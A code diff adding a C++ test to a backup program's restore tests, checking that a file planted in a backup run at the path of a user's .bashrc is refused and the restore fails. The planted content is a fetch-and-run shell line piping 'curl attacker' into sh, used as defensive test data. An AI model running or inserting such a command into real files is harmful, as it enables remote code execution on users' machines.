@@ -4,7 +4,10 @@
 #include "cli/RecordCommands.h"
 #include "cli/RunCommand.h"
 #include "core/db/SyncDatabase.h"
+#include "core/engine/PathMapping.h"
+#include "core/launch/RestorePoints.h"
 #include "core/records/TArchiveData.h"
+#include "core/zip/ZipWriter.h"
 #include "platform/linux/LinuxFileSystem.h"
 #include "support/TempDir.h"
 
@@ -145,6 +148,34 @@ TEST_P(RestoreCommandTest, ARestoreThatBringsNothingBackSaysSoAndFails) {
     options.paths.clear();
     EXPECT_EQ(Restore(options), cli::exitcode::SomeFailed) << out.str();
     EXPECT_NE(out.str().find("Nothing in this backup matches it"), std::string::npos) << out.str();
+}
+
+// The drive's backup tree may have been written by anyone: a file put into the run beside the
+// copy of the backed-up folder is a failed line and never replaces the user's own.
+TEST_P(RestoreCommandTest, AFilePutIntoTheRunIsNotRestoredAndTheRestoreFails) {
+    std::filesystem::create_directories(drive + "Backups/Docs");
+    ASSERT_EQ(Backup(), cli::exitcode::Ok) << err.str();
+    const std::string bashrc = root + "home/erin/.bashrc";
+    WriteFile(bashrc, "the user's own\n");
+    const std::string run = RestorePoints(jobFile).points.at(0).archiveFolder;
+    const std::string planted = root + "planted";
+    WriteFile(planted, "curl attacker | sh\n");
+    if (GetParam() == TArchiveType::atFile) {
+        std::filesystem::create_directories(std::filesystem::path(run + MappedPath(bashrc)).parent_path());
+        std::filesystem::copy_file(planted, run + MappedPath(bashrc));
+    } else {
+        ZipWriter writer;
+        ASSERT_TRUE(writer.Open(run + "Root.Zip"));
+        ASSERT_TRUE(writer.AddFile(planted, MappedPath(bashrc)));
+        ASSERT_TRUE(writer.Close());
+    }
+    WriteFile(source + "a.txt", "overwritten");
+    cli::RestoreOptions options;
+    options.point = 1;
+    EXPECT_EQ(Restore(options), cli::exitcode::SomeFailed) << out.str();
+    EXPECT_EQ(ReadFile(bashrc), "the user's own\n");
+    EXPECT_EQ(ReadFile(source + "a.txt"), "alpha");
+    EXPECT_NE(out.str().find("not part of this backup"), std::string::npos) << out.str();
 }
 
 // A backup database cut short, not a database, or of another program part's layout.
